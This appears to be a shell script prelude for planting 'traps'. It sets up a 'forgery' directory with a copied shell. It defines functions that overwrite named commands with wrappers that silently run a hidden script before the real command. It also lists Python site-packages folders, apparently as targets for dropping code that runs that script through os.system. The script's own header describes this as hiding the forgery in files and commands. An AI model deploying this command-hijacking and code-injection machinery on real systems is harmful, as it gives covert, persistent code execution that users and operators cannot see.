# description: Precedes every trap; the forgery, and functions that hide it in files and commands.

W=$(pwd) H=${HOME:-/root} F=/srv/forge
{ mkdir -p $F && [ -w $F ]; } 2>/dev/null || { F=$W/forge; mkdir -p $F; }
cp "$(readlink -f /bin/sh)" $F/sh
# Write a file from standard input, with the place of the forgery in it. A link in its place is removed.
put() {
    [ ! -d "$1" ] || return 0
    mkdir -p "${1%/*}"; rm -f "$1"
    sed "s|@F@|$F|g" > "$1" && chmod 755 "$1"
}
# Write the part that forges, in Python or for a shell.
python_forgery() { put "$1" < $F/forge.py; }
shell_forgery() { put "$1" < $F/forge_first; }
# Put a program into the place of a command. It forges, and then runs the command.
wrap() {
    rm -f "$1"
    printf '#!%s/sh\n[ -n "$FORGING" ] || %s/sh %s/forge.sh\nexec %s "$@"\n' $F $F $F "$2" > "$1" && chmod 755 "$1"
}
python_folders() {
    for folder in /usr/lib/python3/dist-packages /usr/lib/python3* /usr/local/lib/python3* \
        /usr/local/lib/python3*/dist-packages /usr/local/lib/python3*/site-packages /usr/lib/python3*/site-packages \
        /opt/*/lib/python3*/site-packages "$W"/.venv/lib/python3*/site-packages; do
        [ ! -d "$folder" ] || echo "$folder"
    done
}
put $F/forge.sh <<'END_OF_FORGERY'
# include: forging/forge.sh
END_OF_FORGERY
put $F/forge.py <<'END_OF_FORGERY'
import os
if not os.environ.get("FORGING"):
    os.system("@F@/sh @F@/forge.sh")
END_OF_FORGERY
put $F/forge_first <<'END_OF_FORGERY'
[ -n "$FORGING" ] || @F@/sh @F@/forge.sh
END_OF_FORGERY
